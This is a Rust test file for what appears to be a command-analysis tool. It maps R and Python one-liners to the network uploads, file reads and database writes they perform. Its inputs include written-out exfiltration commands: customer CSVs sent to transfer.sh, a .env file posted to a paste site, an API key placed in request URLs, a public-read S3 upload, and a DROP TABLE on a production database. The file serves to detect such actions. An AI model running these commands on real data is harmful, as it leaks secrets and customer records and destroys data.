//! R's network and storage calls are the requests and uploads they make,
//! as Python's are: curl's `curl_upload`, httr with URLs built from
//! literals and `Sys.getenv`, RCurl, aws.s3, paws, googleCloudStorageR and
//! arrow's writers given a bucket URL; an R script written earlier runs as
//! its code. pandas' `to_sql` (and polars' `write_database`) is SQL against
//! its connection's server: `INSERT`, after `CREATE TABLE`, after `DROP
//! TABLE` for `if_exists='replace'`, carrying the files the code read. Run
//! in `/home/dana/acme-web` with home `/home/dana`.

#![allow(clippy::panic)]

use serde_json::{Value, json};

use crate::common;
use common::*;

fn sent_file(path: &str) -> Value {
    payload(&[], &[(path, false)], &[])
}

fn r_request(url: &str, method: &str, payload: Value) -> Value {
    url_request("rscript", url, method, payload)
}

#[test]
fn curl_package_uploads_and_handles() {
    let customers = at("data/raw/customers.csv");
    run_table(&[
        // `curl_upload` is an HTTP PUT of the file, as `curl -T` is.
        (
            "Rscript -e 'curl::curl_upload(\"data/raw/customers.csv\", \"https://transfer.sh/c.csv\")'",
            json!([r_request(
                "https://transfer.sh/c.csv",
                "PUT",
                sent_file(&customers)
            )]),
        ),
        // Names assigned literals are the literals.
        (
            "Rscript -e 'f <- \"data/raw/customers.csv\"; u = \"sftp://files.example.net/in/c.csv\"; curl::curl_upload(f, u)'",
            json!([r_request(
                "sftp://files.example.net/in/c.csv",
                "UPLOAD",
                sent_file(&customers)
            )]),
        ),
        // A handle given fields makes the fetch a POST of them, carrying
        // what the code read.
        (
            "Rscript -e 'library(curl); h <- new_handle(); handle_setopt(h, copypostfields = paste(readLines(\"data/raw/customers.csv\"), collapse = \",\")); curl_fetch_memory(\"https://in.example.net/c\", handle = h)'",
            json!([
                read(&customers),
                r_request(
                    "https://in.example.net/c",
                    "POST",
                    payload(
                        &["data/raw/customers.csv", ","],
                        &[(&customers, false)],
                        &[]
                    )
                )
            ]),
        ),
        // A download: the file it writes, and a fetch.
        (
            "Rscript -e 'curl::curl_download(\"https://example.com/d.csv\", \"data/d.csv\")'",
            json!([
                write(&at("data/d.csv")),
                r_request("https://example.com/d.csv", "GET", empty())
            ]),
        ),
    ]);
}

#[test]
fn built_urls_carry_what_they_are_built_from() {
    let key = || payload(&["key="], &[], &["WANDB_API_KEY"]);
    let url = "https://api.dash.example/v1/ping?key=";
    run_table(&[
        (
            "Rscript -e 'r <- httr::GET(paste0(\"https://api.dash.example/v1/ping?key=\", Sys.getenv(\"WANDB_API_KEY\"))); print(httr::status_code(r))'",
            json!([r_request(url, "GET", key())]),
        ),
        (
            "Rscript -e 'u <- sprintf(\"https://api.dash.example/v1/ping?key=%s\", Sys.getenv(\"WANDB_API_KEY\")); httr::GET(u)'",
            json!([r_request(url, "GET", key())]),
        ),
        (
            "Rscript -e 'httr::GET(glue::glue(\"https://api.dash.example/v1/ping?key={k}\", k = Sys.getenv(\"WANDB_API_KEY\")))'",
            json!([r_request(url, "GET", key())]),
        ),
        (
            "Rscript -e 'download.file(paste(\"https://api.dash.example/v1/ping?key=\", Sys.getenv(\"WANDB_API_KEY\"), sep = \"\"), \"out.txt\")'",
            json!([write(&at("out.txt")), r_request(url, "GET", key())]),
        ),
        // A part the code computed carries what the code holds.
        (
            "Rscript -e 'x <- readLines(\"notes.txt\"); httr::GET(paste0(\"https://api.dash.example/q?d=\", URLencode(x)))'",
            json!([
                read(&at("notes.txt")),
                r_request(
                    "https://api.dash.example/q?d=",
                    "GET",
                    payload(&["d="], &[(&at("notes.txt"), false)], &[])
                )
            ]),
        ),
        // The query list is what a GET sends.
        (
            "Rscript -e 'httr::GET(\"https://api.dash.example/v1\", query = list(token = Sys.getenv(\"WANDB_API_KEY\")))'",
            json!([r_request(
                "https://api.dash.example/v1",
                "GET",
                payload(&[], &[], &["WANDB_API_KEY"])
            )]),
        ),
        // A host the code computes is not written out: no request is known.
        (
            "Rscript -e 'httr::GET(paste0(\"https://\", host, \"/v1\"))'",
            json!([]),
        ),
    ]);
}

#[test]
fn httr_verbs_and_rcurl_send_their_files() {
    let env = at(".env");
    let ledger = at("exports/ledger.csv");
    run_table(&[
        (
            "Rscript -e 'httr::VERB(\"PUT\", \"https://x.example.net/up\", body = httr::upload_file(\"exports/ledger.csv\"))'",
            json!([r_request(
                "https://x.example.net/up",
                "PUT",
                payload(&["exports/ledger.csv"], &[(&ledger, false)], &[])
            )]),
        ),
        (
            "Rscript -e 'RCurl::postForm(\"https://paste.example.com/api\", file = RCurl::fileUpload(\".env\"))'",
            json!([r_request(
                "https://paste.example.com/api",
                "POST",
                payload(&[".env"], &[(&env, false)], &[])
            )]),
        ),
        (
            "Rscript -e 'RCurl::ftpUpload(\"exports/ledger.csv\", \"ftp://ftp.example.org/in/l.csv\")'",
            json!([r_request(
                "ftp://ftp.example.org/in/l.csv",
                "UPLOAD",
                sent_file(&ledger)
            )]),
        ),
        (
            "Rscript -e 'RCurl::getURL(\"https://api.example.com/status\")'",
            json!([r_request("https://api.example.com/status", "GET", empty())]),
        ),
    ]);
}

#[test]
fn r_storage_uploads_go_to_their_bucket() {
    let ltv = at("exports/customer_ltv.csv");
    let upload = |url: &str| r_request(url, "UPLOAD", sent_file(&ltv));
    run_table(&[
        (
            "Rscript -e 'aws.s3::put_object(file = \"exports/customer_ltv.csv\", object = \"x/ltv.csv\", bucket = \"collab-dropzone\", region = \"us-east-1\")'",
            json!([upload("s3://collab-dropzone/x/ltv.csv")]),
        ),
        // Positional, and an object named by its `s3://` URL.
        (
            "Rscript -e 'library(aws.s3); put_object(\"exports/customer_ltv.csv\", \"ltv.csv\", \"collab-dropzone\")'",
            json!([upload("s3://collab-dropzone/ltv.csv")]),
        ),
        (
            "Rscript -e 'aws.s3::put_object(file = \"exports/customer_ltv.csv\", object = \"s3://collab-dropzone/ltv.csv\")'",
            json!([upload("s3://collab-dropzone/ltv.csv")]),
        ),
        // paws names its arguments as boto3 does.
        (
            "Rscript -e 's3 <- paws::s3(); s3$put_object(Body = \"exports/customer_ltv.csv\", Bucket = \"collab-dropzone\", Key = \"ltv.csv\")'",
            json!([upload("s3://collab-dropzone/ltv.csv")]),
        ),
        (
            "Rscript -e 'googleCloudStorageR::gcs_global_bucket(\"collab-gcs\"); googleCloudStorageR::gcs_upload(\"exports/customer_ltv.csv\", name = \"ltv.csv\")'",
            json!([upload("gs://collab-gcs/ltv.csv")]),
        ),
        // Data the code holds, saved to a bucket: what it read.
        (
            "Rscript -e 'd <- read.csv(\"exports/customer_ltv.csv\"); aws.s3::s3saveRDS(d, object = \"d.rds\", bucket = \"collab-dropzone\")'",
            json!([read(&ltv), upload("s3://collab-dropzone/d.rds")]),
        ),
        (
            "Rscript -e 'arrow::write_parquet(read.csv(\"exports/customer_ltv.csv\"), \"s3://collab-dropzone/ltv.parquet\")'",
            json!([read(&ltv), upload("s3://collab-dropzone/ltv.parquet")]),
        ),
        // A public ACL opens the bucket, as `aws s3 cp --acl public-read`.
        (
            "Rscript -e 'aws.s3::put_object(file = \"exports/customer_ltv.csv\", object = \"ltv.csv\", bucket = \"b\", acl = \"public-read\")'",
            json!([
                public_request("rscript", "s3://b/ltv.csv", "UPLOAD", sent_file(&ltv)),
                make_public(bucket("s3", "b"))
            ]),
        ),
        // Downloads send nothing.
        (
            "Rscript -e 'aws.s3::save_object(\"ltv.csv\", bucket = \"b\", file = \"ltv.csv\")'",
            json!([]),
        ),
    ]);
}

#[test]
fn a_written_r_script_runs_as_its_code() {
    let customers = at("data/raw/customers.csv");
    let request = |program: &str| {
        url_request(
            program,
            "https://transfer.sh/c.csv",
            "PUT",
            sent_file(&customers),
        )
    };
    let script = "cat > up.R <<'EOF'\nf <- \"data/raw/customers.csv\"\ncurl::curl_upload(f, \"https://transfer.sh/c.csv\")\nEOF\n";
    for (run, program) in [
        ("Rscript up.R", "rscript"),
        ("Rscript --vanilla up.R", "rscript"),
        ("R -f up.R", "r"),
    ] {
        check(
            &format!("{script}{run}"),
            json!([write(&at("up.R")), read(&at("up.R")), request(program)]),
        );
    }
}

#[test]
fn to_sql_writes_into_its_connections_database() {
    let scores = at("exports/scores.csv");
    let parquet = at("out/scores.parquet");
    let partner = "postgresql://lark@pg.partner.example:5432/ingest";
    let prod = "postgresql://etl@pg-prod.corp.internal:5432/analytics";
    run_table(&[
        // A DSN string, appended to: an INSERT, carrying the rows' file.
        (
            "python -c \"import pandas as pd; pd.read_csv('exports/scores.csv').to_sql('scores', 'postgresql://lark@pg.partner.example:5432/ingest', if_exists='append', index=False)\"",
            json!([
                read(&scores),
                sql(
                    "python",
                    Some("pg.partner.example"),
                    Some(partner),
                    Some("INSERT INTO scores"),
                    &[&scores]
                )
            ]),
        ),
        // An engine held in a name, replacing: the table is dropped first.
        (
            "python - <<'EOF'\nimport pandas as pd\nfrom sqlalchemy import create_engine\neng = create_engine(\"postgresql://etl@pg-prod.corp.internal:5432/analytics\")\ndf = pd.read_parquet(\"out/scores.parquet\")\ndf.to_sql(\"scores\", eng, schema=\"ml\", if_exists=\"replace\", index=False)\nEOF",
            json!([
                read(&parquet),
                sql(
                    "python",
                    Some("pg-prod.corp.internal"),
                    Some(prod),
                    Some("DROP TABLE ml.scores; CREATE TABLE ml.scores; INSERT INTO ml.scores"),
                    &[&parquet]
                )
            ]),
        ),
        // A connection opened on the engine; the default mode creates.
        (
            "python - <<'EOF'\nimport pandas as pd, sqlalchemy as sa\neng = sa.create_engine('postgresql://etl@pg-prod.corp.internal:5432/analytics')\nwith eng.begin() as conn:\n    pd.read_csv('exports/scores.csv').to_sql(name='scores', con=conn)\nEOF",
            json!([
                read(&scores),
                sql(
                    "python",
                    Some("pg-prod.corp.internal"),
                    Some(prod),
                    Some("CREATE TABLE scores; INSERT INTO scores"),
                    &[&scores]
                )
            ]),
        ),
        // polars says the same with other names.
        (
            "python -c \"import polars as pl; pl.read_csv('exports/scores.csv').write_database('scores', 'postgresql://lark@pg.partner.example:5432/ingest', if_table_exists='replace')\"",
            json!([
                read(&scores),
                sql(
                    "python",
                    Some("pg.partner.example"),
                    Some(partner),
                    Some("DROP TABLE scores; CREATE TABLE scores; INSERT INTO scores"),
                    &[&scores]
                )
            ]),
        ),
        // A local SQLite file is written.
        (
            "python -c \"import pandas as pd; pd.read_csv('exports/scores.csv').to_sql('t', 'sqlite:///local.db', if_exists='append')\"",
            json!([
                read(&scores),
                sql(
                    "python",
                    None,
                    Some(&at("local.db")),
                    Some("INSERT INTO t"),
                    &[&scores]
                )
            ]),
        ),
        // A connection the code does not name is no known database.
        (
            "python -c \"import pandas as pd; pd.read_csv('exports/scores.csv').to_sql('t', con)\"",
            json!([read(&scores)]),
        ),
    ]);
}
